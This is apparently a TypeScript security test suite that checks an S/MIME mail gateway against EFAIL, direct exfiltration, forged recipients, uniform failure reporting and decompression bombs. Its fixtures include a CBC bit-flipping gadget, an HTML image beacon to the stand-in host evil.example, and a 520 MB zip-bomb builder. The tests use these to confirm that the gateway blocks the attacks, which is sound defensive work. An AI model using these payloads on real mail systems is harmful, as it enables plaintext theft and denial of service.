/** Threats 1, 2, 3, 24, 32 (S/MIME) against the running gateway: what is opened, for whom, and what a reader gets. */
import assert from 'node:assert/strict';
import { X509Certificate } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { deflateSync } from 'node:zlib';
import { submit } from './submit.ts';
import {
  alice,
  bob,
  carol,
  pkcs7,
  shownText,
  statusLine,
  statusOf,
  type ThreatStage,
  threatStage,
} from './threat-stage.ts';

let stage: ThreatStage;
before(async () => {
  stage = await threatStage();
});
after(() => stage?.remove());

const BEACON = '<img src="http://evil.example/';
const HTML = `Content-Type: text/html; charset=utf-8\r\n\r\n<p>secret plans</p>${BEACON}secret"><script>steal()</script>\r\n`;

/** Offset of the first block of a CBC ciphertext: behind the IV, which stands behind the algorithm's OID. */
function ivOffset(der: Buffer): number {
  const oid = Buffer.from('060960864801650304012a0410', 'hex'); // aes256-CBC, then OCTET STRING of 16
  return der.indexOf(oid) + oid.length;
}

/** Changes known plaintext at `at` (a multiple of 16) by changing the block before it. */
function flipped(der: Buffer, at: number, known: string, wanted: string): Buffer {
  const out = Buffer.from(der);
  const iv = ivOffset(der);
  // Behind the IV: [0] IMPLICIT with a two- or three-octet length (definite, as -outform DER of a small content).
  const header =
    at === 0 ? 0 : out[iv + 16] === 0x80 && (out[iv + 17] ?? 0) > 0x80 ? (out[iv + 17] ?? 0) - 0x80 + 2 : 2;
  const before = at === 0 ? iv : iv + 16 + header + at - 16;
  for (let i = 0; i < 16; i++) {
    out[before + i] = (out[before + i] ?? 0) ^ known.charCodeAt(i) ^ wanted.charCodeAt(i);
  }
  return out;
}

describe('content in CBC mode (threat 1, EFAIL)', () => {
  it('1: HTML that was decrypted without a signature loads nothing any more, and the status says why', async () => {
    const mail = await stage.incoming({
      id: 't1-html',
      entity: pkcs7(stage.encrypted(HTML), 'enveloped-data'),
    });
    const shown = shownText(mail);
    assert.match(shown, /secret plans/);
    assert.doesNotMatch(shown, /<img|<script|src="http|evil\.example/);
    assert.equal(statusOf(mail), 'decrypted');
    assert.match(mail.text.replace(/\r\n[ \t]/g, ' '), /does not protect against changes/);
  });

  it('1: signed inside the encryption it stays as it was written', async () => {
    const signed = pkcs7(stage.signed(HTML), 'signed-data');
    const mail = await stage.incoming({
      id: 't1-signed',
      entity: pkcs7(stage.encrypted(signed), 'enveloped-data'),
    });
    assert.equal(statusOf(mail), 'decrypted-verified');
    assert.ok(shownText(mail).includes(BEACON));
  });

  it('1: authenticated encryption (AES-GCM) stays as it was written', async () => {
    const mail = await stage.incoming({
      id: 't1-gcm',
      entity: pkcs7(stage.encrypted(HTML, ['alice.pem'], '-aes-256-gcm'), 'authEnveloped-data'),
    });
    assert.equal(statusOf(mail), 'decrypted');
    assert.ok(shownText(mail).includes(BEACON));
  });

  it('1: a gadget in the header makes it unreadable: withheld', async () => {
    const plain = 'Content-Type: text/plain\r\n\r\nsecret plans of the company\r\n';
    const gadget = flipped(
      stage.encrypted(plain),
      16,
      plain.slice(16, 32),
      'xt/html\r\n\r\n<img '.slice(0, 16),
    );
    const mail = await stage.incoming({ id: 't1-gadget', entity: pkcs7(gadget, 'enveloped-data') });
    const shown = shownText(mail);
    assert.doesNotMatch(shown, /<img|secret plans/);
    assert.equal(statusOf(mail), 'not-opened');
  });

  it('1: a gadget in the body of HTML reaches nobody', async () => {
    const plain = `Content-Type: text/html\r\n\r\n<p>0123456789abcdef0123456789abcdef0123456789abcdefsecret plans</p>\r\n`;
    const gadget = flipped(stage.encrypted(plain), 64, plain.slice(64, 80), '<img src="//e.x/');
    const mail = await stage.incoming({ id: 't1-body', entity: pkcs7(gadget, 'enveloped-data') });
    assert.equal(statusOf(mail), 'decrypted');
    assert.doesNotMatch(shownText(mail), /<img|src=/);
  });
});

describe('direct exfiltration (threat 2)', () => {
  it("2: an encrypted part among an attacker's HTML parts is not decrypted into it", async () => {
    const part = pkcs7(stage.encrypted('Content-Type: text/plain\r\n\r\nsecret plans\r\n'), 'enveloped-data');
    const html = (text: string): string => `--m\r\nContent-Type: text/html\r\n\r\n${text}\r\n`;
    const mail = await stage.incoming({
      id: 't2',
      entity: `Content-Type: multipart/mixed; boundary=m\r\n\r\n${html(BEACON)}--m\r\n${part}\r\n${html('">')}--m--\r\n`,
    });
    assert.ok(!shownText(mail).includes('secret plans'));
    assert.equal(statusOf(mail), 'none');
  });

  it('2: nor is one that is nested below a signed part', async () => {
    const part = pkcs7(stage.encrypted('Content-Type: text/plain\r\n\r\nsecret plans\r\n'), 'enveloped-data');
    const mixed = `Content-Type: multipart/mixed; boundary=m\r\n\r\n--m\r\nContent-Type: text/html\r\n\r\n${BEACON}\r\n--m\r\n${part}\r\n--m--\r\n`;
    const mail = await stage.incoming({ id: 't2-signed', entity: pkcs7(stage.signed(mixed), 'signed-data') });
    assert.ok(!shownText(mail).includes('secret plans'));
  });
});

describe("someone else's ciphertext (threat 3)", () => {
  const SECRET = 'Content-Type: text/plain\r\n\r\nonly for carol\r\n';

  it('3: encrypted to carol and mailed to alice it stays closed', async () => {
    const mail = await stage.incoming({
      id: 't3',
      entity: pkcs7(stage.encrypted(SECRET, ['carol.pem']), 'enveloped-data'),
    });
    assert.equal(statusOf(mail), 'not-opened');
    assert.ok(!shownText(mail).includes('only for carol'));
  });

  it('3: mailed to both, each reads with her own key only', async () => {
    const entity = pkcs7(stage.encrypted(SECRET, ['carol.pem']), 'enveloped-data');
    const mail = `From: ${bob}\r\nTo: ${alice}, ${carol}\r\nSubject: t3\r\nMessage-ID: <t3-both@threats.example>\r\nDate: Mon, 23 Nov 2026 10:00:00 +0000\r\nMIME-Version: 1.0\r\n${entity}`;
    await submit(stage.gateway.outsidePort, { from: bob, to: [alice, carol], mail });
    const of = (address: string) =>
      stage.gateway.arrival(address, (m) => m.text.includes('<t3-both@threats.example>'));
    const [hers, other] = [await of(carol), await of(alice)];
    assert.match(shownText(hers), /only for carol/);
    assert.deepEqual(hers.recipients, [carol]);
    assert.equal(statusOf(other), 'not-opened');
    assert.ok(!shownText(other).includes('only for carol'));
  });

  it("3: a RecipientInfo forged to name alice's certificate does not open it", async () => {
    const serial = (name: string): Buffer => {
      const pem = readFileSync(join(stage.partner.folder, name));
      return Buffer.from(new X509Certificate(pem).serialNumber, 'hex');
    };
    const [hers, other] = [serial('carol.pem'), serial('alice.pem')];
    assert.equal(hers.length, other.length, 'serial numbers of one length');
    const der = stage.encrypted(SECRET, ['carol.pem']);
    const at = der.indexOf(hers);
    assert.ok(at > 0);
    other.copy(der, at);
    const mail = await stage.incoming({ id: 't3-forged', entity: pkcs7(der, 'enveloped-data') });
    assert.equal(statusOf(mail), 'not-opened');
    assert.ok(!shownText(mail).includes('only for carol'));
  });

  it('3: from inside nothing is opened, so nobody gets a decryption to the outside', async () => {
    const entity = pkcs7(stage.encrypted(SECRET, ['carol.pem']), 'enveloped-data');
    const mail = `From: ${carol}\r\nTo: ${bob}\r\nSubject: t3-out\r\nMessage-ID: <t3-out@threats.example>\r\nDate: Mon, 23 Nov 2026 10:00:00 +0000\r\nMIME-Version: 1.0\r\n${entity}`;
    await submit(stage.gateway.insidePort, { from: carol, to: [bob], mail });
    const left = await stage.gateway.arrival(bob, (m) => m.text.includes('t3-out'));
    assert.ok(!shownText(left).includes('only for carol'));
  });
});

describe('failures that must look alike (threat 32)', () => {
  it('32: a wrong key, wrong padding and altered content differ in nothing that leaves', async () => {
    const plain = 'Content-Type: text/plain\r\n\r\nthe plaintext\r\n';
    const altered = (change: (der: Buffer) => void): Buffer => {
      const der = stage.encrypted(plain);
      change(der);
      return der;
    };
    const encryptedKeyAt = (der: Buffer): number =>
      der.indexOf(Buffer.from('06092a864886f70d010101', 'hex')) + 40; // rsaEncryption, then the key
    const variants = {
      'other-key': stage.encrypted(plain, ['carol.pem']),
      'wrong-padding': altered((der) => {
        const at = encryptedKeyAt(der);
        der[at] = (der[at] ?? 0) ^ 0x55;
      }),
      'wrong-padding-2': altered((der) => der.fill(0x42, encryptedKeyAt(der), encryptedKeyAt(der) + 64)),
      // The last octet of the last block but one: turns the padding's length into one above 16, in every run.
      'wrong-content-padding': altered((der) => {
        der[der.length - 17] = (der[der.length - 17] ?? 0) ^ 0xff;
      }),
    };
    const lines = new Set<string>();
    for (const [name, der] of Object.entries(variants)) {
      const mail = await stage.incoming({ id: `t32-${name}`, entity: pkcs7(der, 'enveloped-data') });
      assert.ok(!shownText(mail).includes('the plaintext'), name);
      lines.add(statusLine(mail));
    }
    assert.equal(lines.size, 1, [...lines].join('\n'));
    assert.deepEqual(
      stage.gateway.delivered.filter((mail) => mail.recipients.includes(bob) && mail.text.includes('t32')),
      [],
      'no notice to the sender',
    );
  });
});

/** DER of one element. */
function element(tag: number, ...content: Buffer[]): Buffer {
  const body = Buffer.concat(content);
  const length = body.length < 128 ? Buffer.from([body.length]) : Buffer.from([0x84, 0, 0, 0, 0]);
  if (body.length >= 128) length.writeUInt32BE(body.length, 1);
  return Buffer.concat([Buffer.from([tag]), length, body]);
}

const oid = (hex: string): Buffer => element(0x06, Buffer.from(hex, 'hex'));
const ID_DATA = oid('2a864886f70d010701');

/** CompressedData (RFC 3274). */
function compressed(content: Buffer): Buffer {
  const zlib = element(0x30, oid('2a864886f70d0109100308'));
  const inside = element(0x30, ID_DATA, element(0xa0, element(0x04, deflateSync(content))));
  const body = element(0x30, element(0x02, Buffer.from([0])), zlib, inside);
  return element(0x30, oid('2a864886f70d0109100109'), element(0xa0, body));
}

describe('decompression bombs (threat 24)', () => {
  it('24: one that exceeds the budget of a mail is not opened; the process lives, the neighbour arrives', async () => {
    const header = Buffer.from('Content-Type: text/plain\r\n\r\n');
    const bomb = compressed(Buffer.concat([header, Buffer.alloc(520 * 1024 * 1024, 0x41)]));
    const [mail, neighbour] = await Promise.all([
      stage.incoming({ id: 't24', entity: pkcs7(bomb, 'compressed-data') }),
      stage.incoming({ id: 't24-neighbour', entity: 'Content-Type: text/plain\r\n\r\nhello\r\n' }),
    ]);
    assert.ok(mail.raw.length < 2 * 1024 * 1024, `${mail.raw.length} octets`);
    assert.match(neighbour.text, /hello/);
    assert.doesNotMatch(stage.gateway.output(), /process ended/);
  });

  it('24: layers of compression share one limit', async () => {
    let entity = 'Content-Type: text/plain\r\n\r\ndeep\r\n';
    for (let i = 0; i < 12; i++) entity = pkcs7(compressed(Buffer.from(entity)), 'compressed-data');
    const mail = await stage.incoming({ id: 't24-nested', entity });
    assert.doesNotMatch(mail.text, /\r\n\r\ndeep/);
    assert.doesNotMatch(stage.gateway.output(), /process ended/);
  });
});
